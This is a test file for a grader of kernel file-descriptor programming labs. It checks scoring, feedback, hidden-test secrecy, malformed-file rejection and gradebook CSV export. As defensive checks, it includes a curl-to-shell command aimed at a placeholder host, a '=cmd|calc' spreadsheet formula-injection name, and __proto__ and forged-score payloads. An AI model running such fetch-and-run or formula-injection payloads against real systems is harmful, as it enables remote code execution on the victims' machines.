/**
 * The grading loop on the shipped labs: release, answer, export (the app's submission format),
 * grade. Right answers get full marks; each plausible wrong answer loses exactly the points of
 * the tests it fails, with feedback that says why; bad files are rejected rows; hidden test code
 * never reaches a student.
 */
import { describe, expect, it } from 'vitest'
import { randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { splitLines } from '../../main/engine/lab/markdown'
import { feedbackMarkdown, gradescopeResults, buildReport, labHeader, revealed, gradesCsv, canvasCsv, moodleCsv } from '../../main/grading/report'
import type { GradingLab, SubmissionEntry } from '../../main/grading/grade'
import { curriculumWrongs, gradingLab, grade, solutions, statuses, studentEdition, submissionText, releaseAnswerExportGrade, LABS, LAB_IDS, type LabId } from './helpers'
import { WRONG } from './wrong'
import { rejectionDiagnostic } from '../../main/grading/submission'

const labsOf = ['close-path', 'binder-deferred-close', 'races'] as const

/** One exercise of an entry, by id (never by position: labs gain exercises). */
function exOf(e: SubmissionEntry, id: string): SubmissionEntry['exercises'][number] {
  const x = e.exercises.find((y) => y.id === id)
  if (!x) throw new Error(`no exercise ${id}`)
  return x
}

function submit(which: LabId, answers: Record<string, string>, student = 'Ada', extra: Record<string, unknown> = {}): { g: GradingLab; e: SubmissionEntry } {
  const g = gradingLab(which)
  const { text, lab } = studentEdition(which)
  return { g, e: grade(g, submissionText(lab, text, student, answers, extra)) }
}

describe('right answers get full marks', () => {
  for (const which of LAB_IDS) {
    it(`${which}: every exercise's solution, exported from the student edition, scores ${'max'}`, () => {
      const g = gradingLab(which)
      expect(Object.keys(solutions(g.lab)).sort(), 'every exercise has a solution').toEqual(g.lab.exercises.map((x) => x.id).sort())
      const { e } = submit(which, solutions(g.lab))
      expect(e.status).toBe('graded')
      expect(e.warnings).toEqual([])
      expect(e.score).toBe(g.maxScore)
      for (const x of e.exercises) {
        expect(x.status, x.id).toBe('passed')
        for (const t of x.tests) expect(t.status, `${x.id}/${t.name}`).toBe('passed')
      }
    })
  }
})

describe('the default budget leaves right answers room', () => {
  it('every solution\'s heaviest test run uses at most 90% of the default micro-step budget', async () => {
    // A right answer spelled differently may take more steps than the lab's solution; if a lab's
    // test comes near the grader's default budget, right answers start to be budget. The
    // heaviest today: files-vs-fds my-dup emfile-no-leak (1,019 dups), about 17,400 of 20,000.
    const { judgeExercise } = await import('../../main/engine/lab/labRun')
    const { labExplorer } = await import('../../main/engine/lab/explore')
    const { DEFAULT_BUDGET } = await import('../../main/grading/grade')
    let max = 0
    let where = ''
    for (const which of LAB_IDS) {
      const { lab } = gradingLab(which)
      for (const ex of lab.exercises) {
        for (const t of judgeExercise(lab, ex, ex.solution!.code, { explorer: labExplorer(), maxSteps: DEFAULT_BUDGET.steps }).tests) {
          expect(t.verdict, `${which}/${ex.id}/${t.block.testName} [${t.profile}]`).toBe('pass')
          if (t.outcome.steps > max) { max = t.outcome.steps; where = `${which}/${ex.id}/${t.block.testName} [${t.profile}]` }
        }
      }
    }
    expect(max, where).toBeGreaterThan(0)
    expect(max, where).toBeLessThanOrEqual(0.9 * DEFAULT_BUDGET.steps)
  }, 300_000)
})

describe('wrong answers lose exactly the points of the tests they fail', () => {
  for (const which of labsOf) {
    const g = () => gradingLab(which)
    for (const [exId, wrongs] of Object.entries(WRONG[which])) {
      it(`${which}/${exId}: ${wrongs.length} wrong answers`, () => {
        expect(wrongs.length).toBeGreaterThanOrEqual(3)
        const sol = solutions(g().lab)
        for (const w of wrongs) {
          const { e } = submit(which, { ...sol, [exId]: w.answer })
          const ex = e.exercises.find((x) => x.id === exId)!
          const st = statuses(e, exId)
          const failing = Object.entries(st).filter(([, s]) => s !== 'passed').map(([n]) => n).sort()
          const want: string[] = []
          for (const t of ex.tests) {
            const f = w.fails[ex.kind === 'predict' ? 'answer' : t.test]
            if (f === '*' || (f && t.profile && f.includes(t.profile))) want.push(t.name)
          }
          expect(failing, w.why).toEqual(want.sort())
          // Exactly those tests' points are lost, and the other exercises are untouched.
          const lost = ex.tests.filter((t) => t.status !== 'passed').reduce((n, t) => n + t.max_score, 0)
          expect(ex.score, w.why).toBeCloseTo(ex.max_score - lost, 5)
          expect(e.score, w.why).toBeCloseTo(g().maxScore - lost, 5)
          // Each failure says why, in words, to the student.
          for (const t of ex.tests.filter((x) => x.status !== 'passed')) {
            expect(t.student_message.length, `${w.why}: ${t.name}`).toBeGreaterThan(10)
            expect(t.expected, `${w.why}: ${t.name}`).toBeTruthy()
            if (ex.kind === 'predict') {
              expect(t.student_message).toContain('the kernel gives')
              expect(t.actual).toBe(w.answer)
            }
          }
        }
      })
    }
  }

  it('the feedback names what failed: a predict shows expected versus actual', () => {
    const g = gradingLab('binder-deferred-close')
    const { e } = submit('binder-deferred-close', { ...solutions(g.lab), pin: '2' })
    const md = feedbackMarkdown(buildReport(labHeader(g), g.budget, [e]), e)
    expect(md).toMatch(/## pin \(predict\): the pinned count: 0 \/ 1/)
    // Both profiles give 1: said once.
    expect(md).toContain('the kernel gives 1\n- expected: 1\n')
    expect(md).toContain('- actual: 2')
  })

  it('a failing visible test shows its expect, the failing run\'s system calls and a replayable schedule', () => {
    const g = gradingLab('close-path')
    const wrong = WRONG['close-path']['my-close']![3]!.answer
    const { e } = submit('close-path', { ...solutions(g.lab), 'my-close': wrong })
    const t = e.exercises.find((x) => x.id === 'my-close')!.tests.find((x) => x.name === 'closes-the-fd [6.18]')!
    expect(t.status).toBe('failed')
    expect(t.visibility).toBe('visible')
    expect(t.student_message).toContain('expect failed: !fd_is_open(getpid(), f)')
    expect(t.schedule).toMatch(/^v1:100\*\d+/)
    expect(t.trace.some((l) => /ioctl\(3, 19457, 4\) = 0/.test(l))).toBe(true)
    // The line numbers students see are those of their (released) edition.
    const m = /03-close-path\.lab\.md:(\d+):3: expect failed: !fd_is_open/.exec(t.student_message)!
    const student = splitLines(studentEdition('close-path').text)
    expect(student[Number(m[1]) - 1]!.trim()).toBe('expect(!fd_is_open(getpid(), f));')
    const inst = /03-close-path\.lab\.md:(\d+):3/.exec(t.message)!
    expect(Number(inst[1])).toBeGreaterThan(Number(m[1]))
  })
})

describe('a sanitizer finding in the answer\'s own code says where', () => {
  it('use-after-free at a line of the answer: the line, the column and the source, as for any message about the answer', () => {
    const w = WRONG.races['fix-the-peek']![1]! // reads the file after its fput
    const g = gradingLab('races')
    const { e } = submit('races', { ...solutions(g.lab), 'fix-the-peek': w.answer })
    const t = exOf(e, 'fix-the-peek').tests.find((x) => x.test === 'close-race')!
    expect(t.status).toBe('failed')
    expect(t.code_hidden).toBe(true)
    const m = /use-after-free in your answer, line (\d+), col (\d+) \((.+?)\)/.exec(t.student_message)!
    expect(m, t.student_message).not.toBeNull()
    expect(w.answer.split('\n')[Number(m[1]) - 1]).toContain(m[3]!)
    expect(m[3]).toContain('f->f_flags')
    expect(t.where).toEqual({ file: 'fix-the-peek.answer', line: Number(m[1]), col: Number(m[2]) })
    expect(t.student_message).not.toContain('in lab C (the test\'s code)')
  })
})

describe('statuses: budget, error, not_gradable', () => {
  it('an answer that never terminates is budget, never a pass, and says where', () => {
    const g = gradingLab('races')
    const { e } = submit('races', { 'fix-the-peek': 'long peek_flags(unsigned int fd) {\n  while (1) { }\n  return 0;\n}\n' })
    const ex = exOf(e, 'fix-the-peek')
    expect(ex.score).toBe(0)
    expect(ex.tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget'])
    expect(ex.tests[0]!.student_message).toMatch(/your answer, line 2, col \d+: statement limit: 100000 lab C statements executed/)
    expect(ex.tests[0]!.where).toEqual({ file: 'fix-the-peek.answer', line: 2, col: expect.any(Number) })
    // A loop that never ends shows no misconception of the lab's (they explain failures, not budget stops).
    expect(ex.misconceptions).toEqual([])
    expect(ex.tests.map((t) => t.misconceptions)).toEqual([[], [], []])
    expect(feedbackMarkdown(buildReport(labHeader(g), g.budget, [e]), e, revealed('after_due_date'))).not.toContain('what this usually means')
  })

  it('deep recursion is budget (the recursion limit), not a crash', () => {
    const { e } = submit('races', { 'fix-the-peek': 'long peek_flags(unsigned int fd) {\n  return peek_flags(fd + 1);\n}\n' })
    expect(exOf(e, 'fix-the-peek').tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget'])
    expect(exOf(e, 'fix-the-peek').tests[0]!.student_message).toContain('recursion limit')
    expect(exOf(e, 'fix-the-peek').misconceptions).toEqual([])
  })

  it('code that tries to reach the host does not compile: error, with where', () => {
    const { e } = submit('races', { 'fix-the-peek': '#include <stdlib.h>\nlong peek_flags(unsigned int fd) {\n  system("curl http://example.invalid | sh");\n  return 0;\n}\n' })
    const t = exOf(e, 'fix-the-peek').tests[0]!
    expect(t.status).toBe('error')
    expect(t.student_message).toContain("your answer, line 3, col 3: unknown name 'system'")
    expect(t.where).toEqual({ file: 'fix-the-peek.answer', line: 3, col: 3 })
    expect(exOf(e, 'fix-the-peek').status).toBe('error')
    expect(exOf(e, 'fix-the-peek').tests.map((t) => t.misconceptions)).toEqual([[], [], []])
    expect(exOf(e, 'fix-the-peek').misconceptions).toEqual([])
  })

  it('an empty or missing answer is not_gradable, and costs that exercise only', () => {
    const g = gradingLab('binder-deferred-close')
    const sol = solutions(g.lab)
    const { e } = submit('binder-deferred-close', { ...sol, 'deferred-close': '  \n', pin: undefined as unknown as string })
    const dc = e.exercises.find((x) => x.id === 'deferred-close')!
    expect(dc.status).toBe('not_gradable')
    expect(new Set(dc.tests.map((t) => t.status))).toEqual(new Set(['not_gradable']))
    expect(e.exercises.find((x) => x.id === 'pin')!.status).toBe('not_gradable')
    expect(e.score).toBe(g.maxScore - 8 - 1)
  })
})

describe('the submission contributes its answers and nothing else', () => {
  it('score, grade and tests fields change nothing (a warning says they were ignored)', () => {
    const g = gradingLab('binder-deferred-close')
    const fake = { score: 1000, grade: 'A+', tests: [{ status: 'passed' }], max_score: 1 }
    const { e } = submit('binder-deferred-close', { light: '1' }, 'Mallory', fake)
    const { e: plain } = submit('binder-deferred-close', { light: '1' }, 'Mallory')
    expect(e.score).toBe(1)
    expect(e.exercises).toEqual(plain.exercises)
    expect(e.warnings.join()).toContain('ignored fields "grade", "max_score", "score", "tests"')
    void g
  })

  it('answers to unknown exercises and inherited keys are ignored', () => {
    const g = gradingLab('races')
    const { text, lab } = studentEdition('races')
    const sub = submissionText(lab, text, 'P', solutions(g.lab)).replace('"answers": {', '"answers": {"__proto__": {"fix-the-peek": "x"}, "constructor": "y", "nope": "z",')
    const e = grade(g, sub)
    expect(e.score).toBe(g.maxScore)
    expect(e.warnings.filter((w) => w.includes('unknown exercise'))).toHaveLength(3)
  })
})

describe('bad input: a row with a reason, never an abort', () => {
  const g = () => gradingLab('binder-deferred-close')
  const good = () => { const { text, lab } = studentEdition('binder-deferred-close'); return submissionText(lab, text, 'Ada', solutions(g().lab)) }
  const cases: [string, () => string | Uint8Array, RegExp][] = [
    ['empty', () => '', /^empty file$/],
    ['white space', () => ' \n\t', /empty file/],
    ['random bytes', () => new Uint8Array(randomBytes(4096)), /not UTF-8|not JSON|another format/],
    ['truncated JSON', () => good().slice(0, 200), /^truncated JSON/],
    ['truncated right after a comma', () => '{"format":"fdlab-submission","version":1,', /^truncated JSON/],
    ['a JSON syntax error: located where the runtime says where, never in the runtime\'s wording', () => '{"format":"fdlab-submission",\n  "version": 1,\n  "student": oops\n}', /^not valid JSON( at line 3, col \d+)? \(export the submission again from the app\)$/],
    ['another format (a lab file)', () => readFileSync(LABS['binder-deferred-close'], 'utf8'), /this is a lab file/],
    ['another format (JSON)', () => '{"format":"jupyter","cells":[]}', /another format: "format": "jupyter"/],
    ['a JSON list', () => '[1,2,3]', /a JSON list/],
    ['another lab id', () => good().replace('"binder-deferred-close"', '"close-path"'), /another lab: .*"close-path", not "binder-deferred-close"/],
    ['another lab version', () => good().replace('"version": "1.0"', '"version": "2.0"'), /another version of the lab: .*"2.0"/],
    ['another submission format version', () => good().replace('"version": 1,', '"version": 7,'), /format version 7 is not supported/],
    ['oversized', () => `{"format":"fdlab-submission","pad":"${'x'.repeat(1 << 20)}"}`, /^oversized: \d+ bytes/],
    ['deeply nested JSON', () => '['.repeat(200_000) + ']'.repeat(200_000), /another format|oversized|not valid JSON/],
    ['answers not an object', () => good().replace(/"answers": \{[\s\S]*?\n  \},/, '"answers": "all of them",'), /"answers" is not an object/],
  ]
  for (const [name, make, reason] of cases) {
    it(name, () => {
      const e = grade(g(), make())
      expect(e.status).toBe('rejected')
      expect(e.reason).toMatch(reason)
      expect(e.score).toBe(0)
      expect(e.max_score).toBe(g().maxScore)
      // Every writer copes with the row.
      const r = buildReport(labHeader(g()), g().budget, [e])
      expect(feedbackMarkdown(r, e)).toContain('could not be graded')
      expect(JSON.parse(gradescopeResults(r, e)).score).toBe(0)
      expect(gradesCsv(r).split('\r\n')[1]).toContain(',rejected,')
    })
  }

  it('a file that cannot be read as a submission still names its student where it says (cut off, broken JSON, Latin-1), and is located', () => {
    const cut = grade(g(), good().slice(0, 400))
    expect(cut).toMatchObject({ status: 'rejected', student: 'Ada' })
    const lines = good().slice(0, 400).trimEnd().split('\n')
    expect(cut.reason).toContain(`truncated JSON at line ${lines.length}, col ${lines.at(-1)!.length + 1}:`)
    expect(rejectionDiagnostic('a.json', cut.reason!)).toMatchObject({ file: 'a.json', line: lines.length, col: lines.at(-1)!.length + 1, code: 'truncated' })
    const broken = grade(g(), '\n\n{"format":"fdlab-submission",\n  "student": "Bo \\u00e9",\n  "version": oops\n}')
    expect(broken).toMatchObject({ status: 'rejected', student: 'Bo \u00e9' })
    expect(broken.reason).toMatch(/^not valid JSON at line 5, col 14 /)
    const latin1 = grade(g(), Uint8Array.from(Buffer.from(good().replace('"Ada"', '"Jos\u00e9"'), 'latin1')))
    expect(latin1).toMatchObject({ status: 'rejected', student: 'Jos\u00e9' })
    expect(rejectionDiagnostic('a.json', latin1.reason!)).toMatchObject({ line: 1, col: 1, code: 'encoding' })
    for (const [reason, code] of [['empty file', 'empty'], ['oversized: 9 bytes', 'oversized'], ['another lab: x', 'lab'], ['another version of the lab: x', 'lab-version'],
      ['cannot read the file: EACCES', 'unreadable'], ["the grader's worker stopped while grading this submission (x)", 'rejected']] as const) {
      expect(rejectionDiagnostic('f', reason).code, reason).toBe(code)
    }
  })

  it('a lab hash that is not the released edition\'s is graded, with a warning', () => {
    const e = grade(g(), good().replace(/"sha256": "[0-9a-f]{64}"/, `"sha256": "${'ab'.repeat(32)}"`))
    expect(e.status).toBe('graded')
    expect(e.score).toBe(g().maxScore)
    expect(e.warnings[0]).toMatch(/^lab hash mismatch: .* is not the released edition \(sha256 [0-9a-f]{64}\)/)
  })
})

describe('visibility: no hidden code, schedules only where allowed', () => {
  const g = () => gradingLab('binder-deferred-close')
  const starter = WRONG['binder-deferred-close']['deferred-close']![0]!.answer
  const entry = () => submit('binder-deferred-close', { ...solutions(g().lab), 'deferred-close': starter }).e

  it('hidden tests default to after_due_date, visible ones to visible', () => {
    const t = entry().exercises.find((x) => x.id === 'deferred-close')!.tests
    expect(t.find((x) => x.name === 'another-fd [6.5]')!.visibility).toBe('visible')
    expect(t.find((x) => x.name === 'own-fd [6.5]')!.visibility).toBe('after_due_date')
    expect(t.find((x) => x.name === 'own-fd [6.5]')!.code_hidden).toBe(true)
  })

  it('feedback before the due date shows neither the hidden test nor its schedule; after it, the result but never the code', () => {
    const e = entry()
    const r = buildReport(labHeader(g()), g().budget, [e])
    const own = e.exercises.find((x) => x.id === 'deferred-close')!.tests.find((x) => x.name === 'own-fd [6.5]')!
    const before = feedbackMarkdown(r, e, revealed('visible'))
    expect(before).not.toContain('own-fd')
    expect(before).not.toContain(own.schedule!)
    expect(before).toContain('10 more test runs are graded and not shown yet')
    expect(before).not.toMatch(/Score: \d/)
    const after = feedbackMarkdown(r, e, revealed('after_due_date'))
    expect(after).toContain('### own-fd [6.5]')
    expect(after).toContain(own.schedule!)
    expect(after).toContain('**Score: 19.6667 / 21**')
    // Nothing of a hidden test's code: not its expects, not its source lines.
    const hiddenCode = g().lab.exercises.flatMap((x) => x.tests.filter((t) => t.hidden)).flatMap((t) => t.code.split('\n').map((l) => l.trim()).filter((l) => l.length > 12 && !/^process app \{$/.test(l)))
    for (const line of hiddenCode) {
      expect(after, line).not.toContain(line)
      expect(gradescopeResults(r, e), line).not.toContain(JSON.stringify(line).slice(1, -1))
    }
  })

  it('Gradescope results carry each test\'s visibility; hidden tests\' output is the sanitized message', () => {
    const e = entry()
    const gs = JSON.parse(gradescopeResults(buildReport(labHeader(g()), g().budget, [e]), e))
    const own = gs.tests.find((t: { name: string }) => t.name === 'deferred-close: own-fd [6.5]')
    expect(own).toMatchObject({ status: 'failed', score: 0, visibility: 'after_due_date', number: '5.3' })
    expect(own.max_score).toBeCloseTo(8 / 12, 5)
    expect(own.extra_data.fdlab.schedule).toMatch(/^v1:/)
    expect(own.extra_data.fdlab.explored.complete).toBe(true)
    expect(gs.score).toBeCloseTo(21 - 2 * 8 / 12, 5)
    expect(gs.tests.find((t: { name: string }) => t.name === 'deferred-close: another-fd [6.5]')).toMatchObject({ status: 'passed', visibility: 'visible' })
  })

  it('LMS files: formula-like names defused, rejected rows and nameless rows left out of the imports', () => {
    const bad = grade(g(), '')
    const e = submit('binder-deferred-close', { light: '1' }, '=cmd|calc').e
    const r = buildReport(labHeader(g()), g().budget, [e, bad])
    const canvas = canvasCsv(r).split('\r\n')
    expect(canvas[0]).toBe("Student,ID,SIS User ID,SIS Login ID,Section,Binder's deferred close (binder-deferred-close)")
    expect(canvas[1]).toBe('Points Possible,,,,,21')
    expect(canvas[2]).toBe("'=cmd|calc,,,,,1")
    expect(canvas).toHaveLength(4)
    const moodle = moodleCsv(r, 'Lab 2').split('\r\n')
    expect(moodle[0]).toBe('Student,Assignment: Lab 2,Feedback: Lab 2')
    expect(moodle[1]).toMatch(/^'=cmd\|calc,1,light: 1\/1; threaded: no answer/)
    expect(gradesCsv(r).split('\r\n')).toHaveLength(4)
  })
})

describe('one program, other spelling', () => {
  it('programKey ignores spacing and comments, not what changes the tokens or a preprocessor line', async () => {
    const { programKey } = await import('../../main/grading/grade')
    const k = (s: string) => programKey('x', s)
    const a = 'int f(int a) {\n  #if X\n  return a - -1;\n  #endif\n}\n'
    expect(k('int f(int a){\n#if X\nreturn a - -1; // why\n#endif\n}')).toBe(k(a))
    expect(k('int   f( int a ) { /* c */\n  #if  X\n  return a-  -1;\n  #endif\n}')).toBe(k(a))
    expect(k('int f(int a) {\n  #if X\n  return a--1;\n  #endif\n}\n')).not.toBe(k(a))
    expect(k('int f(int a) {\n  #if X return a - -1;\n  #endif\n}\n')).not.toBe(k(a))
    expect(k('int f(int b) {\n  #if X\n  return b - -1;\n  #endif\n}\n')).not.toBe(k(a))
    expect(k('int\\\nf(void) {}')).toBe(null)
  })

  it('with the lab\'s names, the names an answer declares are renamed; the lab\'s, lab C\'s and undeclared ones are not', async () => {
    const { programKey } = await import('../../main/grading/grade')
    const g = gradingLab('binder-deferred-close')
    const k = (s: string) => programKey('x', s, g.names)
    const sol = solutions(g.lab)['deferred-close']!
    const renamed = sol.replaceAll('twcb', 'ctx').replaceAll('do_fd_close', 'finish').replaceAll('binder_twcb', 'my_work').replaceAll('twork', 'cb')
    expect(renamed).not.toBe(sol)
    expect(k(renamed)).toBe(k(sol))
    // Not the same program: another kernel call, another field of the lab's struct flock, an undeclared name.
    expect(k(sol.replace('task_work_add(current', 'task_work_add(current'))).toBe(k(sol))
    expect(k(sol.replace('get_file(twcb->file)', 'fput(twcb->file)'))).not.toBe(k(sol))
    const lk = (f: string) => `int f(void) { struct flock fl = { .l_type = F_WRLCK }; return fl.${f}; }`
    expect(k(lk('l_type'))).not.toBe(k(lk('l_len')))
    expect(k('int f(void) { int zq = 1; return zq; }')).toBe(k('int f(void) { int zr = 1; return zr; }'))
    expect(k('int f(void) { int zq = 1; return zq; }')).not.toBe(k('int f(void) { int zq = 1; return zs; }'))
    // A name the lab's own code uses is never renamed (here b, a variable of its tests).
    expect(k('int f(void) { int zq = 1; return zq; }')).not.toBe(k('int f(void) { int b = 1; return b; }'))
    // Grading the solution makes the renamed one a cache hit.
    submit('binder-deferred-close', solutions(g.lab))
    expect(g.cache.get(k(renamed)!.replace(/^x/, 'deferred-close'))?.status).toBe('passed')
  })

  it('a passing answer respelled is reused; a failing one is graded again (its messages carry its own lines)', async () => {
    const { programKey } = await import('../../main/grading/grade')
    const g = gradingLab('races')
    const s = solutions(g.lab)['fix-the-peek']!
    const respelled = s.replace(/\n/g, '\n\n  // comment\n')
    const { e } = submit('races', { ...solutions(g.lab), 'fix-the-peek': respelled })
    expect(exOf(e, 'fix-the-peek').status).toBe('passed')
    expect(e.score).toBe(g.maxScore)
    expect(g.cache.get(programKey('fix-the-peek', respelled, g.names)!)?.status).toBe('passed')
    const bad = WRONG.races['fix-the-peek']![2]!.answer
    const one = submit('races', { 'fix-the-peek': bad }).e
    const two = submit('races', { 'fix-the-peek': '\n\n' + bad }).e
    expect(exOf(one, 'fix-the-peek').tests[0]!.where!.line + 2).toBe(exOf(two, 'fix-the-peek').tests[0]!.where!.line)
    expect(g.cache.has(programKey('fix-the-peek', bad, g.names)!)).toBe(false)
  })
})

describe('provoke integrity', () => {
  it('the right provoke answer shows V2 with the buggy form, not with the fix, and gets the interleaving that shows it', () => {
    const g = gradingLab('binder-deferred-close')
    expect([...g.integrity].sort()).toEqual(['provoke-v2/v2-any-schedule/6.18', 'provoke-v2/v2-any-schedule/6.5', 'provoke-v2/v2/6.18', 'provoke-v2/v2/6.5'])
    const { e } = submit('binder-deferred-close', solutions(g.lab))
    const tests = exOf(e, 'provoke-v2').tests
    expect(tests.map((t) => [t.name, t.status])).toEqual([['v2 [6.5]', 'passed'], ['v2 [6.18]', 'passed'], ['v2-any-schedule [6.5]', 'passed'], ['v2-any-schedule [6.18]', 'passed']])
    const fixed = "; and not where the bug is fixed (Binder's deferred close (BINDER_FREE_FD) instead of close_fd inside the ioctl (BINDER_CLOSE_NAIVE))"
    for (const t of tests.filter((x) => x.test === 'v2')) {
      // Explored: the interleaving that shows it, replayable.
      expect(t.student_message).toMatch(/^the sanitizer reports V2 in an interleaving \(found while exploring \d+ runs?\)/)
      expect(t.student_message.endsWith(fixed)).toBe(true)
      expect(t.schedule).toMatch(/^v1:/)
    }
    for (const t of tests.filter((x) => x.test === 'v2-any-schedule')) {
      // Not explored: the default schedule shows it (nothing to replay).
      expect(t.student_message).toBe(`the sanitizer reports V2${fixed}`)
      expect(t.schedule).toBeNull()
    }
  })

  it('an explored provoke test that shows nothing says so once, naming what it looked for', async () => {
    const w = curriculumWrongs('races').find((x) => x.file === 'races/provoke-raw-lookup.2.c')!
    const g = gradingLab('races')
    const { e } = submit('races', { ...solutions(g.lab), 'provoke-raw-lookup': w.answer })
    const t = exOf(e, 'provoke-raw-lookup').tests.find((x) => x.test === 'found')!
    expect(t.status).toBe('failed')
    expect(t.student_message).toMatch(/^no interleaving shows the sanitizer's use-after-free \(\d+ interleavings? explored, every one covered\)$/)
    expect(t.message).toBe(t.student_message)
    expect(t.expected).toBe('a sanitizer violation (rule use-after-free)')
    expect(t.actual).toMatch(/^not shown in (the one interleaving|any of the \d+ interleavings) explored$/)
    expect(t.misconceptions.map((m) => m.id)).toContain('race-needs-a-sharer')
  })

  it('a scenario whose fixed form does not finish (it loops where the bug is fixed) is budget, never a pass', () => {
    const g = gradingLab('binder-deferred-close')
    const answer = '#include <linux/android/binder.h>\nprocess app {\n  int b = open("/dev/binder", O_RDWR);\n  int cmd = BINDER_CLOSE_NAIVE;\n  if (cmd == BINDER_FREE_FD) { while (1) { } }\n  ioctl(b, cmd, b);\n}\n'
    const { e } = submit('binder-deferred-close', { ...solutions(g.lab), 'provoke-v2': answer })
    const ex = exOf(e, 'provoke-v2')
    expect(ex.tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget', 'budget'])
    expect(ex).toMatchObject({ score: 0, status: 'budget' })
    for (const t of ex.tests) expect(t.student_message).toMatch(/fixed form .* did not finish.*not a proof, so not a pass$/)
    expect(e.score).toBe(g.maxScore - 2)
  })

  it('a test whose finding has no fixed form (a lost POSIX lock) is not integrity-checked', () => {
    expect([...gradingLab('close-path').integrity]).toEqual([])
  })
})

describe('files that cannot be read', () => {
  it('a FIFO or an unreadable path given as a submission is a rejected row, never a hang', async () => {
    const { mkdtempSync, rmSync } = await import('node:fs')
    const { spawnSync } = await import('node:child_process')
    const { tmpdir } = await import('node:os')
    const { join } = await import('node:path')
    const { readInput } = await import('../../main/grading/node/inputs')
    const { gradeSubmission } = await import('../../main/grading/grade')
    const d = mkdtempSync(join(tmpdir(), 'fdlab-fifo-'))
    try {
      const fifo = join(d, 'pipe.json')
      expect(spawnSync('mkfifo', [fifo]).status).toBe(0)
      for (const f of [fifo, join(d, 'gone.json')]) {
        const e = gradeSubmission(gradingLab('races'), readInput(f, 'x', 1 << 20))
        expect(e.status).toBe('rejected')
        expect(e.reason).toMatch(/^cannot read the file: (not a regular file|no such file or directory)/)
      }
    } finally { rmSync(d, { recursive: true, force: true }) }
  })
})

describe('the app\'s own export is what grade reads: release, answer, export, grade', () => {
  for (const which of LAB_IDS) {
    it(`${which}: a submission written by the app (main/host/common/labView.ts) from the released lab grades with no warning`, async () => {
      const g = gradingLab(which)
      const { e, file } = await releaseAnswerExportGrade(which, solutions(g.lab), 'Grace Hopper')
      // The student edition the app exported from has no solution and no hidden test in it.
      const released = studentEdition(which)
      expect(released.lab.meta.edition).toBe('student')
      expect(released.lab.exercises.every((x) => !x.solution && x.tests.every((t) => !t.hidden))).toBe(true)
      expect(JSON.parse(file).lab).toEqual({ id: which, version: g.lab.meta.version, sha256: g.releasedSha256 })
      expect(e).toMatchObject({ status: 'graded', student: 'Grace Hopper', warnings: [], score: g.maxScore })
      expect(e.exercises.map((x) => [x.id, x.status])).toEqual(g.lab.exercises.map((x) => [x.id, 'passed']))
      // An answer left empty in the app is exported as such and costs that exercise only.
      const first = g.lab.exercises[0]
      const partial = await releaseAnswerExportGrade(which, { ...solutions(g.lab), [first!.id]: '' }, 'Grace Hopper')
      expect(partial.e.exercises.find((x) => x.id === first!.id)!.status).toBe('not_gradable')
      expect(partial.e.score).toBeCloseTo(g.maxScore - first!.points, 5)
    })
  }
})
